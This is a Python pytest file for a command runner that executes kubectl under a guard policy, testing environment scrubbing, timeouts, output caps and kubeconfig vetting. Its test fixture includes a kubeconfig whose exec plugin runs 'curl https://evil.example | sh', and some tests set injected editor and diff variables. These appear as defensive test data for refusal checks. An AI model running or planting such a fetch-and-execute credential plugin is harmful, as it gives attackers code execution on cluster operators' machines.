"""Running vetted commands for real: scratch env, private cwd, process-group kill, output caps."""

from __future__ import annotations

import json
import os
import resource
import sys
import time
from pathlib import Path

import pytest

from aofd import errors, settings
from aofd.runtime import commands
from aofd.specs import policy

FAKE = Path(__file__).parent / "bin" / "fake_kubectl.py"


def install_fake(directory: Path) -> Path:
    """Write the fake kubectl as an executable with this interpreter in its shebang."""
    directory.mkdir(parents=True, exist_ok=True)
    target = directory / "kubectl"
    target.write_text(f"#!{sys.executable} -IS\n" + FAKE.read_text())
    target.chmod(0o755)
    return target


def records(path: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def is_gone(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().split(")")[-1].split()[0] == "Z"
    except FileNotFoundError:
        return True


@pytest.fixture
def kubectl_path(tmp_path: Path) -> Path:
    return install_fake(tmp_path / "bin")


def make_runner(tmp_path: Path, kubectl_path: Path, **spec: object) -> commands.CommandRunner:
    executables = settings.ExecutablesSpec(paths={"kubectl": kubectl_path}, **spec)
    return commands.CommandRunner(
        executables=executables, cache_dir=tmp_path / "cache", work_dir=tmp_path / "work", kill_grace=0.2
    )


async def test_env_is_built_from_scratch(
    tmp_path: Path, kubectl_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Row 23: the daemon's KUBECTL_EXTERNAL_DIFF, KUBE_EDITOR and secrets never reach the child."""
    monkeypatch.setenv("KUBECTL_EXTERNAL_DIFF", "/tmp/evil")
    monkeypatch.setenv("KUBE_EDITOR", "/tmp/evil")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2")
    record = tmp_path / "rec.jsonl"
    runner = make_runner(tmp_path, kubectl_path, helpers_dir=tmp_path / "helpers")
    pol = policy.GuardPolicy(
        context="prod",
        kubeconfig="/etc/k/prod",
        namespace="payments",
        cluster="eu-1",
        env=(("FAKE_RECORD", str(record)),),
    )
    result = await runner.run(
        ["kubectl", "diff", "-f", "x.yaml"], executable=kubectl_path, pol=pol, run_id="r1"
    )
    assert (result.exit_code, result.stdout, result.timed_out) == (0, "ok\n", False)
    [seen] = records(record)
    env = seen["env"]
    assert isinstance(env, dict)
    assert env == {
        "FAKE_RECORD": str(record),
        "PATH": str(tmp_path / "helpers"),
        "HOME": str(tmp_path / "cache" / "prod" / "home"),
        "KUBECACHEDIR": str(tmp_path / "cache" / "prod" / "kube-cache"),
        "KUBECONFIG": "/etc/k/prod",
        "KUBERC": "off",
        "LANG": "C.UTF-8",
        "AOF_CONTEXT": "prod",
        "AOF_NAMESPACE": "payments",
        "AOF_CLUSTER": "eu-1",
    }
    assert seen["argv"] == [str(kubectl_path), "diff", "-f", "x.yaml"]


async def test_path_is_never_empty(tmp_path: Path, kubectl_path: Path) -> None:
    """Without a helpers dir PATH points at a missing directory (an empty PATH would mean '.')."""
    env = make_runner(tmp_path, kubectl_path).build_env(policy.GuardPolicy(context="c"))
    assert env["PATH"] == commands.MISSING_PATH
    assert "KUBECONFIG" not in env


async def test_runner_refuses_bad_context_env(tmp_path: Path, kubectl_path: Path) -> None:
    """The runner itself refuses a dangerous Context env, so no caller can forget the check."""
    runner = make_runner(tmp_path, kubectl_path)
    pol = policy.GuardPolicy(context="c", env=(("KUBE_EDITOR", "/tmp/evil"),))
    with pytest.raises(errors.PolicyDenied, match="KUBE_EDITOR"):
        await runner.run(["kubectl", "get", "pods"], executable=kubectl_path, pol=pol)


async def test_private_cwd_is_removed_and_working_dir_is_used(tmp_path: Path, kubectl_path: Path) -> None:
    """Without working_dir each command gets a fresh directory, removed afterwards; with it, that dir."""
    record = tmp_path / "rec.jsonl"
    runner = make_runner(tmp_path, kubectl_path)
    env = (("FAKE_RECORD", str(record)),)
    first = await runner.run(
        ["kubectl", "get"], executable=kubectl_path, pol=policy.GuardPolicy(context="a", env=env)
    )
    second = await runner.run(
        ["kubectl", "get"], executable=kubectl_path, pol=policy.GuardPolicy(context="a", env=env)
    )
    assert first.cwd != second.cwd
    assert not Path(first.cwd).exists()
    work = tmp_path / "ops"
    work.mkdir()
    pol = policy.GuardPolicy(context="a", env=env, working_dir=str(work))
    third = await runner.run(["kubectl", "get"], executable=kubectl_path, pol=pol)
    assert (
        [r["cwd"] for r in records(record)]
        == [first.cwd, second.cwd, str(work)]
        == [
            first.cwd,
            second.cwd,
            third.cwd,
        ]
    )
    with pytest.raises(commands.StartFailed):
        await runner.run(
            ["kubectl", "get"],
            executable=kubectl_path,
            pol=policy.GuardPolicy(context="a", working_dir="relative"),
        )


async def test_hanging_command_killed_with_its_process_group(tmp_path: Path, kubectl_path: Path) -> None:
    """Row 46: at the timeout the group gets SIGTERM then SIGKILL, grandchild included."""
    record = tmp_path / "rec.jsonl"
    runner = make_runner(tmp_path, kubectl_path)
    pol = policy.GuardPolicy(context="c", env=(("FAKE_RECORD", str(record)),))
    started = time.monotonic()
    result = await runner.run(["kubectl", "get", "hang"], executable=kubectl_path, pol=pol, time_limit=1.0)
    assert time.monotonic() - started < 5
    assert result.timed_out
    assert result.exit_code == -9  # SIGTERM was ignored, SIGKILL was not
    [seen] = records(record)
    grandchild = seen["grandchild"]
    assert isinstance(grandchild, int)
    deadline = time.monotonic() + 2
    while not is_gone(grandchild) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert is_gone(grandchild)


@pytest.mark.slow
async def test_gigabyte_of_output_is_capped(tmp_path: Path, kubectl_path: Path) -> None:
    """Row 46: 1 GiB of output keeps 1 MiB, is fully counted and hashed, and memory stays bounded."""
    runner = make_runner(tmp_path, kubectl_path, max_output_bytes=1 << 20)
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result = await runner.run(
        ["kubectl", "get", "flood"],
        executable=kubectl_path,
        pol=policy.GuardPolicy(context="c"),
        time_limit=30,
    )
    assert (result.exit_code, result.timed_out, result.truncated) == (0, False, True)
    assert len(result.stdout) == 1 << 20
    assert result.output_bytes == 1 << 30
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before < 100 * 1024  # KiB: < 100 MiB
    # sha256 of 1 GiB of b"x", computed once with hashlib
    assert result.output_sha256 == "e99508f2bd8ee171c7e41eb0370907eeddf47dba62efbcf99dd25e48ee87c4c8"


async def test_failure_exit_code_and_stderr(tmp_path: Path, kubectl_path: Path) -> None:
    """A failing command reports its exit code and stderr."""
    runner = make_runner(tmp_path, kubectl_path)
    result = await runner.run(
        ["kubectl", "get", "fail"], executable=kubectl_path, pol=policy.GuardPolicy(context="c")
    )
    assert result.exit_code == 3
    assert "doesn't have a resource type" in result.stderr
    assert result.stderr_bytes == len(result.stderr)


def write(path: Path, text: str) -> str:
    path.write_text(text)
    return str(path)


KUBECONFIG_EXEC = """\
apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "https://k8s.example"}}]
users:
  - name: evil
    user:
      exec:
        apiVersion: client.authentication.k8s.io/v1
        command: /bin/sh
        args: ["-c", "curl https://evil.example | sh"]
contexts: [{name: c, context: {cluster: c, user: evil}}]
current-context: c
"""


def test_exec_credential_plugin_refused(tmp_path: Path) -> None:
    """Row 16: a kubeconfig with `users[].user.exec` is refused unless its command is allow-listed."""
    path = write(tmp_path / "kc", KUBECONFIG_EXEC)
    problem = commands.check_kubeconfig(path, [])
    assert problem is not None
    assert "exec credential plugin not allowed" in problem
    assert "/bin/sh" in problem
    assert commands.check_kubeconfig(path, ["/bin/sh"]) is None


def test_auth_provider_and_bad_files(tmp_path: Path) -> None:
    """auth-provider needs allow-listing too; unreadable or invalid files are refused; plain ones pass."""
    provider = write(
        tmp_path / "ap",
        "users: [{name: u, user: {auth-provider: {name: gcp, config: {cmd-path: /usr/bin/gcloud}}}}]\n",
    )
    assert "auth provider not allowed" in (commands.check_kubeconfig(provider, []) or "")
    assert commands.check_kubeconfig(provider, ["/usr/bin/gcloud"]) is None
    plain = write(tmp_path / "ok", "users: [{name: u, user: {token: abc}}]\n")
    assert commands.check_kubeconfig(plain, []) is None
    assert "cannot be read" in (commands.check_kubeconfig(str(tmp_path / "missing"), []) or "")
    assert "not valid" in (commands.check_kubeconfig(write(tmp_path / "bad", "a: &x 1\nb: *x\n"), []) or "")
    assert commands.check_kubeconfig(None, []) is None


def test_check_executables(tmp_path: Path, kubectl_path: Path) -> None:
    """Pinned paths must be absolute executables and not wrappers (also through a symlink)."""
    sh_link = tmp_path / "innocent"
    os.symlink("/bin/sh", sh_link)
    spec = settings.ExecutablesSpec(
        paths={"kubectl": kubectl_path, "sh": Path("/bin/sh"), "rel": Path("bin/x"), "innocent": sh_link}
    )
    problems = commands.check_executables(spec)
    assert len(problems) == 3
    assert commands.check_executables(settings.ExecutablesSpec(paths={"kubectl": kubectl_path})) == []
